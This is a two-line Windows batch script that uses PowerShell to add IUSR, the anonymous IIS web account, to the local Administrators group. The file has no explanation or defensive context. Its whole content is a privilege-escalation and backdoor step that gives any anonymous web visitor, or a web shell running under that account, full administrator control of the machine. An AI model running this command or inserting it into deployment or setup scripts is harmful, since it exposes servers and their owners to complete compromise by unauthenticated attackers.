@echo off
powershell -NoProfile -Command "Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR'"
